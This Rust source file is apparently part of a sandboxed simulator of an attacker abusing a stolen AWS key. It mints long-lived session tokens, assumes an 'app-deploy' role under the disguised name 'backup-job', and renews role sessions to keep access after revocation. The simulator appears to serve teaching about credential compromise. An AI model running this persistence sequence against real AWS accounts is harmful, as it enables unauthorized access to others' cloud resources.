//! The attacker: the AWS SDK with a stolen key.

use anyhow::Context as _;
use aws_config::retry::RetryConfig;
use aws_config::{AppName, BehaviorVersion, Region, SdkConfig};
use aws_credential_types::Credentials;
use aws_sdk_sts::error::SdkError;
use aws_smithy_http_client::Builder as HttpClientBuilder;
use aws_smithy_runtime_api::box_error::BoxError;
use aws_smithy_runtime_api::client::interceptors::context::BeforeTransmitInterceptorContextMut;
use aws_smithy_runtime_api::client::interceptors::{Intercept, dyn_dispatch_hint};
use aws_smithy_runtime_api::client::runtime_components::RuntimeComponents;
use aws_smithy_types::config_bag::ConfigBag;
use aws_smithy_types::error::display::DisplayErrorContext;
use aws_smithy_types::error::metadata::ProvideErrorMetadata;
use chrono::DateTime;

use super::ATTACKER_IP;
use crate::aws::{Account, KeyPair};
use crate::clock::Clock;
use crate::terminal::{Line, Terminal};

/// Appears in the user agent of each call.
const APP_NAME: &str = "keyhunter";

const REGION: &str = "us-east-1";
const SESSION_SECONDS: i32 = 36 * 3_600;

/// The credentials in the attacker's hands, each of which is tried in turn.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Loot {
    Key,
    UserSession,
    RoleSession,
}

pub(super) struct Attacker {
    aws_url: String,
    role_arn: String,
    clock: Clock,
    terminal: Terminal,
    key: SdkConfig,
    user_session: Option<SdkConfig>,
    role_session: Option<SdkConfig>,
    /// What did not work when it was last tried.
    dead: Vec<Loot>,
    next: Loot,
}

impl Attacker {
    pub(super) fn new(
        aws_url: &str,
        stolen: KeyPair,
        account: &Account,
        clock: Clock,
        terminal: Terminal,
    ) -> anyhow::Result<Self> {
        Ok(Self {
            key: config(aws_url, stolen)?,
            aws_url: aws_url.to_owned(),
            role_arn: format!("arn:aws:iam::{}:role/app-deploy", account.id()),
            clock,
            terminal,
            user_session: None,
            role_session: None,
            dead: Vec::new(),
            next: Loot::Key,
        })
    }

    /// What is done with a key that has just been found.
    pub(super) async fn break_in(&mut self) {
        let who = sts(&self.key).get_caller_identity().send().await;
        self.show("aws sts get-caller-identity", &who, |who| who.arn().unwrap_or_default().to_owned());
        self.list_users().await;
        let session = sts(&self.key).get_session_token().duration_seconds(SESSION_SECONDS).send().await;
        self.show(&format!("aws sts get-session-token --duration-seconds {SESSION_SECONDS}"), &session, |session| {
            minted(session.credentials(), &self.clock)
        });
        self.user_session = session.ok().and_then(|session| self.config_of(session.credentials()));
        let key = self.key.clone();
        self.role_session = self.assume_role("", &key).await;
        self.list_roles().await;
    }

    /// Tries the next of the credentials. While a session of the user lives, a role session that
    /// has died is replaced by a new one.
    pub(super) async fn try_next(&mut self) {
        let tried = self.next;
        let (works, next) = match tried {
            Loot::Key => (self.list_users().await, Loot::UserSession),
            Loot::UserSession => {
                let renewed = match self.user_session.clone() {
                    Some(session) => self.assume_role("session$ ", &session).await,
                    None => None,
                };
                let works = renewed.is_some();
                if works && self.dead.contains(&Loot::RoleSession) {
                    self.role_session = renewed;
                    self.dead.retain(|loot| *loot != Loot::RoleSession);
                }
                (works, Loot::RoleSession)
            }
            Loot::RoleSession => (self.list_roles().await, Loot::Key),
        };
        self.dead.retain(|loot| *loot != tried);
        if !works {
            self.dead.push(tried);
        }
        self.next = next;
    }

    pub(super) fn is_locked_out(&self) -> bool {
        self.dead.len() == 3
    }

    async fn list_users(&self) -> bool {
        let users = aws_sdk_iam::Client::from_conf(iam_config(&self.key)).list_users().send().await;
        self.show("aws iam list-users", &users, |users| {
            let names: Vec<&str> = users.users().iter().map(aws_sdk_iam::types::User::user_name).collect();
            names.join(", ")
        });
        users.is_ok()
    }

    async fn list_roles(&self) -> bool {
        let Some(session) = &self.role_session else { return false };
        let roles = aws_sdk_iam::Client::from_conf(iam_config(session)).list_roles().send().await;
        self.show("app-deploy$ aws iam list-roles", &roles, |roles| format!("{} roles", roles.roles().len()));
        roles.is_ok()
    }

    async fn assume_role(&self, prompt: &str, with: &SdkConfig) -> Option<SdkConfig> {
        let request = sts(with).assume_role().role_arn(&self.role_arn).role_session_name("backup-job");
        let session = request.send().await;
        let call = format!("{prompt}aws sts assume-role --role-arn {} --role-session-name backup-job", self.role_arn);
        self.show(&call, &session, |session| minted(session.credentials(), &self.clock));
        session.ok().and_then(|session| self.config_of(session.credentials()))
    }

    fn config_of(&self, credentials: Option<&aws_sdk_sts::types::Credentials>) -> Option<SdkConfig> {
        let credentials = credentials?;
        let pair = KeyPair {
            access_key_id: credentials.access_key_id().to_owned(),
            secret_access_key: credentials.secret_access_key().to_owned(),
            session_token: Some(credentials.session_token().to_owned()),
        };
        config(&self.aws_url, pair).ok()
    }

    fn show<T, E>(&self, call: &str, result: &Result<T, SdkError<E>>, describe: impl Fn(&T) -> String)
    where
        E: ProvideErrorMetadata + std::error::Error + 'static,
    {
        let detail = match result {
            Ok(answer) => describe(answer),
            Err(SdkError::ServiceError(refusal)) => {
                let meta = refusal.err().meta();
                format!("{}: {}", meta.code().unwrap_or("error"), meta.message().unwrap_or_default())
            }
            Err(error) => DisplayErrorContext(error).to_string(),
        };
        self.terminal.push(Line { at: self.clock.now(), call: call.to_owned(), ok: result.is_ok(), detail });
    }
}

fn minted(credentials: Option<&aws_sdk_sts::types::Credentials>, clock: &Clock) -> String {
    let shown = |new: &aws_sdk_sts::types::Credentials| {
        let until = DateTime::from_timestamp(new.expiration().secs(), 0).map(|real| clock.shown(real));
        let until = until.map(|at| at.format("%H:%M:%S").to_string()).unwrap_or_default();
        format!("{} until {until}", new.access_key_id())
    };
    credentials.map(shown).unwrap_or_default()
}

fn sts(config: &SdkConfig) -> aws_sdk_sts::Client {
    aws_sdk_sts::Client::from_conf(aws_sdk_sts::config::Builder::from(config).interceptor(SourceIp).build())
}

fn iam_config(config: &SdkConfig) -> aws_sdk_iam::Config {
    aws_sdk_iam::config::Builder::from(config).interceptor(SourceIp).build()
}

/// The SDK as the attacker uses it: nothing from this machine's profile, one attempt a call.
fn config(aws_url: &str, keys: KeyPair) -> anyhow::Result<SdkConfig> {
    let credentials = Credentials::new(keys.access_key_id, keys.secret_access_key, keys.session_token, None, "stolen");
    Ok(SdkConfig::builder()
        .behavior_version(BehaviorVersion::latest())
        .region(Region::from_static(REGION))
        .endpoint_url(aws_url)
        .app_name(AppName::new(APP_NAME).context("the app name")?)
        .credentials_provider(aws_credential_types::provider::SharedCredentialsProvider::new(credentials))
        .http_client(HttpClientBuilder::new().build_http())
        .retry_config(RetryConfig::disabled())
        .build())
}

/// Tells the account where the calls come from.
#[derive(Debug)]
struct SourceIp;

#[dyn_dispatch_hint]
impl Intercept for SourceIp {
    fn name(&self) -> &'static str {
        "SourceIp"
    }

    fn modify_before_signing(
        &self,
        context: &mut BeforeTransmitInterceptorContextMut<'_>,
        _: &RuntimeComponents,
        _: &mut ConfigBag,
    ) -> Result<(), BoxError> {
        context.request_mut().headers_mut().insert("x-sandbox-source-ip", ATTACKER_IP);
        Ok(())
    }
}
